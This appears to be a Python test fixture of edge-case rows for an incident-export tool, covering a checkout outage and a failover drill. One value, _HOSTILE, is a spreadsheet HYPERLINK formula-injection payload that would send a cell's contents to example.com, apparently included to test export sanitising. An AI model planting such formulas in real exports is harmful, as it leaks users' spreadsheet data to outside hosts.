"""Rows by hand, one of each table and the odd ones."""

from __future__ import annotations

from collections.abc import Mapping, Sequence

from inc.exports.tables import TABLES, About, Filled, Row

CHECKOUT = "2026-03-04-checkout-failures"
DRILL = "2026-03-05-failover-drill"
_HOSTILE = '=HYPERLINK("https://example.com/?"&A1;"Click")'
_TIMES = (
    *("2026-03-04T15:00:00Z", "2026-03-04T15:00:00Z", "2026-03-04T15:04:00Z"),
    *("2026-03-04T15:06:00Z", "2026-03-04T15:05:00Z", "2026-03-04T15:38:00Z"),
    *("2026-03-04T16:10:00Z", None, "2026-03-04T16:10:00Z"),
)
ROWS: Mapping[str, Sequence[Row]] = {
    "incidents": [
        (
            *(CHECKOUT, f"incidents/2026/03/{CHECKOUT}.md", _HOSTILE, "SEV1", "resolved", None),
            *(False, False, False, None, *_TIMES, 1, "Customers cannot pay,\nnobody can"),
            *(["checkout", "payments, cards"], [], ["alice"]),
        ),
        (
            *(DRILL, f"incidents/2026/03/{DRILL}.md", "Übung \x1b[31m", None, "investigating"),
            *("vendor", True, True, True, CHECKOUT, *[None] * 9, 0, None, [], ["'x"], []),
        ),
    ],
    "entries": [
        (
            *(CHECKOUT, 1, "0h4tcz3k9m2x", "2026-03-04T15:05:00Z", "declared", None, "alice"),
            "SEV1: Checkout fails",
        ),
        (
            *(CHECKOUT, 2, None, "2026-03-04T15:20:00Z", "update", "customer", None),
            '- "Checkout" is slow\r\n  \t+1',
        ),
    ],
    "actions": [
        (
            *(CHECKOUT, "postmortem", 1, "9c1dk", "@dave: leaks", "prevent", "dave"),
            *("2026-03-14", "P2", "open", None, None, None),
        ),
    ],
    "postmortems": [
        (CHECKOUT, f"postmortems/2026/03/{CHECKOUT}.md", "published", _TIMES[0], None),
    ],
    "labels": [
        (CHECKOUT, "incident", 1, "services", "checkout"),
        (CHECKOUT, "incident", 2, "services", "payments, cards"),
        (CHECKOUT, "postmortem", 1, "authors", "'alice"),
    ],
    "promises": [
        (CHECKOUT, 1, "2026-03-04T15:40:00Z", None, False),
        (CHECKOUT, 2, "2026-03-04T16:00:00Z", "2026-03-04T16:10:00Z", True),
    ],
}


FILLED = [
    Filled(table, lambda name=name: ROWS[name])  # type: ignore[misc]
    for name, table in TABLES.items()
]
ABOUT = About(
    "inc 0.1.0",
    "2026-03-06T12:00:00Z",
    "1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d",
    "severity:SEV1",
    2,
    1,
)
"""What an export says of itself."""
